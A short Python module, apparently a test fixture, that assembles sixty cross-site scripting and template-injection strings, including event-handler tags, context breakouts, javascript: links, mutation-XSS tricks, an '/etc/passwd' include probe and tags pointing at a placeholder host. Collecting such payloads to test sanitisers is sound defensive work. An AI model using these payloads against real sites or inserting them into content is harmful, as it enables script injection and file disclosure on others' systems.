"""Sixty texts that would run, load or break out of where they are put, were they taken for markup."""

_CALL = "alert(document.domain)"
_TAGS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus",
    "marquee onstart",
    "select autofocus onfocus",
    "audio src=x onerror",
    "iframe onload",
)
_BREAKS = ('"', "'", "`", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</svg>")
_LINKS = ("javascript:", "JaVaScRiPt:", "\x01javascript:", "java\tscript:", "data:text/html,", "vbscript:")
_OTHERS = (
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "\u2028alert(1)//",
    "\u202e<b>",
    "\x00<script>",
    "<base href=//192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=//192.0.2.1'>",
    "<link rel=stylesheet href=//192.0.2.1/>",
    "<form action=//192.0.2.1><button>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<object data=//192.0.2.1>",
    "<embed src=//192.0.2.1>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{background:url(//192.0.2.1)}</style>",
    "<a href='javascript:alert(1)'>a</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
PAYLOADS = (
    "<script>alert(1)</script>",
    *(f"<{tag}={_CALL}>" for tag in _TAGS),
    *(f"{end}><script>{_CALL}</script>" for end in _BREAKS),
    *(f"{end} onmouseover={_CALL} x={end}" for end in _BREAKS),
    *(f"{link}{_CALL}" for link in _LINKS),
    *_OTHERS,
)
